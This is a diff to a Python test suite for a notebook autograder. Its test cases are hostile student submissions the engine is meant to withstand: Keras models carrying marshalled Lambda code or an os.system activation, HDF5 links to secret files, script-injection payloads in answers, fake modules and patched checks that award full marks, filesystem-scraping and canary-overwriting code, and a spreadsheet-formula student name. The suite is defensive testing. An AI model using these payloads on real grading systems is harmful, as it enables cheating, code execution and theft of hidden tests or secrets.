@@ -5,7 +5,10 @@ All are variations of one small lab. The right answers earn 2 + 4 + 1 points.
 
 from __future__ import annotations
 
+import base64
+import io
 import json
+import marshal
 import os
 import zipfile
 from collections.abc import Callable
@@ -17,6 +20,10 @@ from course_utils.grading.outcomes import Outcome
 
 HIDDEN = "hidden line 7781"
 """Stands in a hidden test; it must appear nowhere that a student sees."""
+PWNED = "pwned()"
+"""What every script of the corpus calls; no page that somebody opens may do so."""
+RAN = "the code in the model ran"
+"""What an examiner would say that has run the code in a hostile model."""
 
 
 def _cell(source: str, name: str, *, grade: bool, solution: bool, points: float | None = None) -> dict:
@@ -40,6 +47,12 @@ def _test(name: str, points: float, source: str) -> dict:
     return _cell(source, name, grade=True, solution=False, points=points)
 
 
+def _text(name: str) -> dict:
+    """A question that is answered in words, which a person marks."""
+    cell = _cell("", name, grade=True, solution=True, points=1)
+    return {key: cell[key] for key in ("id", "metadata", "source")} | {"cell_type": "markdown"}
+
+
 LAB = [
     _cell("import numpy as np", "setup", grade=False, solution=False),
     _answer("double", "def double(x):\n    return 2 * x"),
@@ -58,13 +71,29 @@ LAB = [
     ),
     _answer("score", "score = 1.0"),
     _test("test-score", 1, "score"),
+    _text("explain"),
 ]
 HANDED_IN = [
     *LAB[:5],
     _answer("score", "score = 1.0\nartefact = np.random.default_rng().normal(size=200)"),
     _test("test-score", 1, "assert artefact.shape == (200,)\nscore"),
+    LAB[7],
 ]
 """The same lab with an artefact, of which everybody has one of their own: the engine is told to compare it."""
+BY_KERAS = [
+    *LAB[:4],
+    _test(
+        "test-values",
+        4,
+        "import keras\nfrom course_utils import checks\n"
+        "off = keras.ops.abs(keras.ops.cast(values, 'float32') - keras.ops.arange(3, dtype='float32'))\n"
+        "right = keras.ops.shape(values) == (3,) and bool(keras.ops.max(off) < 1e-6)\n"
+        "checks.Verdict('values', 'right' if right else 'not yet', float(right)).marks(4)",
+    ),
+    *LAB[5:],
+]
+"""The same lab, of which one test is decided by Keras and the course's checks."""
+LABS = {"lab": LAB, "handed-in": HANDED_IN, "by-keras": BY_KERAS}
 FULL = {"test-double": 2.0, "test-values": 4.0, "test-score": 1.0}
 
 
@@ -82,8 +111,10 @@ class Case:
         raw: the notebook's bytes, in place of cells.
         kernel: the kernel that the notebook asks for.
         never: texts that the student must not get to see, beside the hidden line.
-        lab: the assignment's cells.
+        says: what the message to some test must hold: why it was refused.
+        lab: which of ``LABS`` it is handed in for.
         prepare: makes further files in the submission's folder.
+        student: who hands it in, where the attack is in that name.
     """
 
     name: str
@@ -96,15 +127,22 @@ class Case:
     prepare: Callable[[Path], None] | None = None
     kernel: str = "python3"
     never: tuple[str, ...] = ()
-    lab: list[dict] = field(default_factory=lambda: LAB)
+    says: str = ""
+    lab: str = "lab"
+    student: str = ""
+
+    @property
+    def who(self) -> str:
+        """The student's id, which is the name of a folder."""
+        return self.student or "".join(letter if letter.isalnum() else "_" for letter in self.name)
 
     @property
     def engine_only(self) -> bool:
         """Whether it attacks what only this engine has, or what stock nbgrader gets none of here: a network, a name, a class."""
         own = ("grading.exporter", "argv.index('-f')", "SERVERS")
         return (
-            self.lab is not LAB
-            or self.name.endswith("for a name")
+            self.lab == "handed-in"
+            or bool(self.student)
             or any(part in text for text in (*self.answers.values(), *self.before.values()) for part in own)
         )
 
@@ -112,13 +150,14 @@ class Case:
         """Writes the submission."""
         folder.mkdir(parents=True)
         cells = []
-        for cell in self.lab:
+        for cell in LABS[self.lab]:
             name = cell["id"]
             if name in self.before:
                 cells.append({"cell_type": "code", "id": f"x-{name}", "metadata": {}, "source": self.before[name]})
             cells.append({**cell, "source": self.answers.get(name, cell["source"])})
         for cell in cells:
-            cell.update(outputs=[], execution_count=None)
+            if cell["cell_type"] == "code":
+                cell.update(outputs=[], execution_count=None)
             if "HIDDEN" in cell["source"]:
                 cell["source"] = cell["source"].split("### BEGIN")[0]
         cells = self.cells(cells) if self.cells else cells
@@ -159,16 +198,71 @@ def _crossing(kind: str, plain: str) -> str:
     )
 
 
-def _model(layer: dict | None = None, **fields) -> str:
+def _sequential(layer: dict | None = None) -> dict:
     dense = {"module": "keras.layers", "class_name": "Dense", "config": {"name": "d", "units": 1}}
     entrance = {"module": "keras.layers", "class_name": "InputLayer", "config": {"name": "i", "batch_shape": [None, 4]}}
     config = {"name": "m", "layers": [entrance, layer or dense]}
-    plain = {"module": "keras", "class_name": "Sequential", "config": config}
-    return repr({"config": plain, "weights": [], "trainable": [], "compile": None, **fields})
+    return {"module": "keras", "class_name": "Sequential", "config": config}
+
+
+def _model(layer: dict | None = None, **fields) -> str:
+    return repr({"config": _sequential(layer), "weights": [], "trainable": [True] * 2, "compile": None, **fields})
+
+
+def _from_file(config: str) -> str:
+    """Code that hands in, for ``values``, a model of which a file beside the notebook is the configuration."""
+    return "import io, json, zipfile\n" + _crossing(
+        "model", f"{{'config': {config}, 'weights': [], 'trainable': [True] * 2, 'compile': None}}"
+    )
+
+
+def _lambda() -> dict:
+    """A layer whose code, run in an examiner, would let itself be known by what the examiner says."""
+    code = compile(
+        "lambda x: (__import__('sys').modules['course_utils.grading.examiner'].__dict__"
+        f".update(_explain=lambda error: {RAN!r}), x)[1]",
+        "<lambda>",
+        "eval",
+    ).co_consts[0]
+    function = {"code": base64.b64encode(marshal.dumps(code)).decode(), "defaults": None, "closure": None}
+    config = {"name": "l", "function": {"class_name": "__lambda__", "config": function}, "arguments": {}}
+    return {"module": "keras.layers", "class_name": "Lambda", "config": config}
+
+
+def _calls_a_program() -> dict:
+    """A layer whose activation is another module's function: Keras imported it, before it became careful."""
+    program = {"module": "os", "class_name": "function", "config": "system", "registered_name": "system"}
+    return {"module": "keras.layers", "class_name": "Activation", "config": {"name": "a", "activation": program}}
+
+
+def keras_archive(layer: dict) -> Callable[[Path], None]:
+    """Writes ``model.keras`` with one layer, as Keras writes it."""
+
+    def write(folder: Path) -> None:
+        import h5py
+
+        weights = io.BytesIO()
+        with h5py.File(weights, "w") as file:
+            file.create_group("layers")
+        with zipfile.ZipFile(folder / "model.keras", "w") as archive:
+            archive.writestr("metadata.json", json.dumps({"keras_version": "3.15.1"}))
+            archive.writestr("config.json", json.dumps(_sequential(layer)))
+            archive.writestr("model.weights.h5", weights.getvalue())
+
+    return write
+
+
+def _hdf5_model(folder: Path) -> None:
+    """A model in Keras's older format whose configuration has code in it, and whose weights are links to a secret."""
+    import h5py
+
+    with h5py.File(folder / "model.h5", "w") as file:
+        file.attrs["model_config"] = json.dumps(_sequential(_lambda()))
+        file["model_weights"] = h5py.ExternalLink(str(folder.parents[2] / "secret.h5"), "secret")
 
 
 def _outside(folder: Path) -> None:
-    """A file of HDF5 whose dataset has its numbers in another file: the secret."""
+    """Two files of HDF5 that have their numbers in others, the secrets: one by a dataset, one by a link."""
     import h5py
 
     secret = folder.parents[2] / "secret.txt"
@@ -176,6 +270,18 @@ def _outside(folder: Path) -> None:
         file.create_dataset(
             "kernel", (secret.stat().st_size,), "u1", external=[(str(secret), 0, secret.stat().st_size)]
         )
+    with h5py.File(folder / "linked.h5", "w") as file:
+        file["kernel"] = h5py.ExternalLink(str(folder.parents[2] / "secret.h5"), "secret")
+
+
+def _in_a_text(cells: list[dict]) -> list[dict]:
+    """Scripts in the answer that is a text, and in a picture pasted into it."""
+    picture = base64.b64encode(f"<svg xmlns='http://www.w3.org/2000/svg' onload='{PWNED}'/>".encode()).decode()
+    text = (
+        f"<script>{PWNED}</script>\n\n<img src='x' onerror='{PWNED}'>\n\n<svg onload='{PWNED}'><script>{PWNED}</script>"
+        f"</svg>\n\n[figure](javascript:{PWNED}) ![](attachment:a.svg) <div style='x:expression({PWNED})'>and so on</div>"
+    )
+    return [*cells[:7], {**cells[7], "source": text, "attachments": {"a.svg": {"image/svg+xml": picture}}}]
 
 
 def _archive(folder: Path) -> None:
@@ -198,6 +304,18 @@ class Evil:
     @property
     def __class__(self): import numpy; return numpy.ndarray
 """
+YES = """
+import types
+class Yes(types.ModuleType):
+    def __getattr__(self, name): return self
+    def __call__(self, *a, **k): return self
+    def __eq__(self, other): return True
+    def __lt__(self, other): return True
+    def __sub__(self, other): return self
+    __hash__ = types.ModuleType.__hash__
+    def marks(self, points): return float(points)
+"""
+"""A module of which everything is itself, that answers every question with yes, and gives full marks."""
 FRIENDS = "score = 1.0\nartefact = np.random.default_rng(8).normal(size=200)"
 
 CASES = [
@@ -290,19 +408,48 @@ CASES = [
         GRADED,
         marks(2, 0, 1),
         answers={"values": "values = np.zeros(3) + 9"},
-        before={"values": "import numpy\nnumpy.mean = lambda *a: 1.0\nnumpy.ndarray.__eq__ if 0 else None"},
+        before={"values": "import numpy\nnumpy.mean = lambda *a: 1.0\nnumpy.arange = lambda *a: numpy.full(3, 9.0)"},
     ),
     Case(
         "modules put in place of Keras and the checks",
         GRADED,
         marks(0, 0, 1),
-        answers={"double": "def double(x):\n    return 3", "values": "values = [0]"},
+        answers={"double": "def double(x):\n    return 3", "values": "values = np.zeros(3) + 9"},
         before={
-            "double": "import sys, types\nclass Yes(types.ModuleType):\n"
-            "    def __getattr__(self, name): return lambda *a, **k: True\n"
+            "double": YES + "import sys\n"
             "for name in ('keras', 'tensorflow', 'course_utils.checks', 'unittest', 'numpy.testing'):\n"
             "    sys.modules[name] = Yes(name)"
         },
+        lab="by-keras",
+    ),
+    Case(
+        "patched checks",
+        GRADED,
+        marks(2, 0, 1),
+        answers={"values": "values = np.zeros(3) + 9"},
+        before={
+            "values": "from course_utils import checks\nchecks.Verdict.__post_init__ = lambda *a: None\n"
+            "checks.Verdict.marks = lambda *a: 4.0"
+        },
+        lab="by-keras",
+    ),
+    Case(
+        "file beside the notebook in place of Keras",
+        GRADED,
+        marks(2, 0, 1),
+        answers={"values": "values = np.zeros(3) + 9"},
+        prepare=lambda f: (f / "keras.py").write_text(YES + "import sys\nsys.modules['keras'] = Yes('keras')"),
+        lab="by-keras",
+    ),
+    Case(
+        "names that shadow Keras and the checks",
+        GRADED,
+        marks(2, 0, 1),
+        answers={
+            "values": YES + "values = np.zeros(3) + 9\nkeras = checks = course_utils = right = off = Yes('x')\n"
+            "float = bool = lambda *a: 1.0"
+        },
+        lab="by-keras",
     ),
     Case(
         "patched builtins",
@@ -410,18 +557,11 @@ CASES = [
         answers={
             "values": _crossing(
                 "model",
-                _model(
-                    {
-                        "module": "keras.layers",
-                        "class_name": "Lambda",
-                        "config": {
-                            "name": "l",
-                            "function": {"class_name": "__lambda__", "config": {"code": "4wEAAAA="}},
-                        },
-                    }
-                ),
+                _model(_lambda()),
             )
         },
+        never=(RAN,),
+        says="A 'Lambda' cannot be handed over",
     ),
     Case(
         "model whose layer loads a saved model",
@@ -489,14 +629,48 @@ CASES = [
         },
     ),
     Case(
-        "model in HDF5",
+        "model in HDF5, with code and with links to a secret",
         GRADED,
         marks(2, 0, 1),
-        answers={
-            "values": _crossing(
-                "model", repr({"config": b"\x89HDF\r\n\x1a\n", "weights": [], "trainable": [], "compile": None})
-            )
-        },
+        prepare=_hdf5_model,
+        answers={"values": _from_file("open('model.h5', 'rb').read()")},
+        never=(RAN,),
+        says="A model of class",
+    ),
+    Case(
+        ".keras archive for a model",
+        GRADED,
+        marks(2, 0, 1),
+        prepare=keras_archive(_lambda()),
+        answers={"values": _from_file("open('model.keras', 'rb').read()")},
+        never=(RAN,),
+        says="A model of class",
+    ),
+    Case(
+        "model from a .keras archive with a Lambda",
+        GRADED,
+        marks(2, 0, 1),
+        prepare=keras_archive(_lambda()),
+        answers={"values": _from_file("json.loads(zipfile.ZipFile('model.keras').read('config.json'))")},
+        never=(RAN,),
+        says="A 'Lambda' cannot be handed over",
+    ),
+    Case(
+        "model from a .keras archive that names a program",
+        GRADED,
+        marks(2, 0, 1),
+        prepare=keras_archive(_calls_a_program()),
+        answers={"values": _from_file("json.loads(zipfile.ZipFile('model.keras').read('config.json'))")},
+        says="not written as a Keras object",
+    ),
+    Case(
+        ".keras archive for an artefact",
+        GRADED,
+        marks(2, 4, 0),
+        prepare=keras_archive(_lambda()),
+        answers={"score": "score = 1.0\nartefact = open('model.keras', 'rb').read()"},
+        never=(RAN,),
+        lab="handed-in",
     ),
     Case(
         "model in YAML that calls a program",
@@ -530,7 +704,7 @@ CASES = [
             "for folder, folders, files in os.walk('/'):\n"
             "    folders[:] = [f for f in folders if os.path.join(folder, f) not in libraries]\n"
             "    for name in files:\n"
-            "        if name.endswith(('.db', '.txt', '.ipynb', '.json')):\n"
+            "        if name.endswith(('.db', '.txt', '.ipynb', '.json', '.wire', 'message')):\n"
             "            try: print(folder, name, open(os.path.join(folder, name)).read()[:2000])\n"
             "            except Exception: pass\n"
             "print([o for o in gc.get_objects() if isinstance(o, str) and 'hidden' + ' line' in o][:3])\n"
@@ -542,7 +716,8 @@ CASES = [
         GRADED,
         FULL,
         before={
-            "score": "for place in CANARIES:\n    try: print(open(place, 'rb').read()[:2000])\n    except OSError: pass"
+            "score": "for place in CANARIES:\n    try: print(open(place, errors='replace').read()[:2000])\n"
+            "    except OSError: pass"
         },
     ),
     Case(
@@ -559,7 +734,9 @@ CASES = [
         GRADED,
         FULL,
         before={
-            "values": "import os\nfor path in CANARIES:\n    try: open(path, 'w').write('pwned')\n    except OSError: pass"
+            "values": "import os\nfor known in CANARIES:\n    for path in (known, os.path.join(os.path.dirname(known), 'pwned')):\n"
+            "        try:\n            os.makedirs(os.path.dirname(path), exist_ok=True); open(path, 'w').write('pwned')\n"
+            "        except OSError: pass\n    try: os.unlink(known)\n    except OSError: pass"
         },
     ),
     Case(
@@ -581,6 +758,7 @@ CASES = [
             "SVG('<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"pwned()\"/>'), Javascript('pwned()'))"
         },
     ),
+    Case("script in a text", GRADED, FULL, cells=_in_a_text),
     Case(
         "exception that tells what a hidden test sent",
         GRADED,
@@ -606,14 +784,23 @@ CASES = [
         prepare=_archive,
         before={"values": "import zipfile\nzipfile.ZipFile('data.zip').extractall('data')"},
     ),
-    Case('=HYPERLINK("http://host/"&A1) for a name', GRADED, FULL),
-    Case(f"Zoë 名前 {'ö' * 40} for a name", GRADED, FULL),
+    Case("formula for a name", GRADED, FULL, student='=HYPERLINK("http:host"&A1)'),
+    Case("formula after what a spreadsheet passes over, for a name", GRADED, FULL, student="\t\n\x1b[2J \r@SUM(A1)"),
     Case(
-        "HDF5 file that borrows a secret's bytes",
+        "name in letters of other languages, as long as a file system takes",
+        GRADED,
+        FULL,
+        student="Zoë 名前 " + "ö" * 120,
+    ),
+    Case(
+        "HDF5 files that borrow a secret's bytes, or link to it",
         GRADED,
         FULL,
         prepare=_outside,
-        before={"score": "import h5py\ntry: print(bytes(h5py.File('weights.h5')['kernel'][:]))\nexcept OSError: pass"},
+        before={
+            "score": "import h5py\nfor name in ('weights.h5', 'linked.h5'):\n"
+            "    try: print(bytes(h5py.File(name)['kernel'][:]))\n    except (OSError, KeyError): pass"
+        },
     ),
     Case(
         "link to a secret",
@@ -657,7 +844,7 @@ CASES = [
     Case("test cell deleted", TAMPERED, FULL, cells=lambda cells: [*cells[:2], *cells[3:]]),
     Case("test cell twice", TAMPERED, FULL, cells=lambda cells: [*cells[:3], cells[2], *cells[3:]]),
     Case("answer cell twice", TAMPERED, FULL, cells=lambda cells: [*cells[:2], cells[1], *cells[2:]]),
-    Case("tests before answers", TAMPERED, FULL, cells=lambda cells: [cells[i] for i in (0, 2, 4, 6, 1, 3, 5)]),
+    Case("tests before answers", TAMPERED, FULL, cells=lambda cells: [cells[i] for i in (0, 2, 4, 6, 1, 3, 5, 7)]),
     Case("metadata stripped", TAMPERED, FULL, cells=lambda cells: [{**c, "metadata": {}} for c in cells]),
     Case(
         "points raised and tests unlocked",
@@ -675,7 +862,7 @@ CASES = [
         cells=lambda cells: [
             {**c, "metadata": m}
             for c, m in zip(
-                cells, ([], "x", {"nbgrader": 3}, {"nbgrader": {"grade_id": []}}, None, {}, {}), strict=True
+                cells, ([], "x", {"nbgrader": 3}, {"nbgrader": {"grade_id": []}}, None, {}, {}, {}), strict=True
             )
         ],
     ),
@@ -689,13 +876,13 @@ CASES = [
     Case("a million cells", NO_NOTEBOOK, NOTHING, raw=b'{"cells": [' + b"{}," * 1_000_000 + b"{}]}"),
     Case("no notebook at all", NO_NOTEBOOK, NOTHING, prepare=lambda f: (f / "lab.ipynb").unlink()),
     # --- what is somebody else's ------------------------------------------------------------------------------------
-    Case("artefact that a friend copies", PERSON, FULL, answers={"score": FRIENDS}, lab=HANDED_IN),
+    Case("artefact that a friend copies", PERSON, FULL, answers={"score": FRIENDS}, lab="handed-in"),
     Case(
         "artefact of a friend, handed in again with noise",
         PERSON,
         FULL,
         answers={"score": f"{FRIENDS} + np.random.default_rng().normal(scale=1e-5, size=200)"},
-        lab=HANDED_IN,
+        lab="handed-in",
     ),
 ]
 
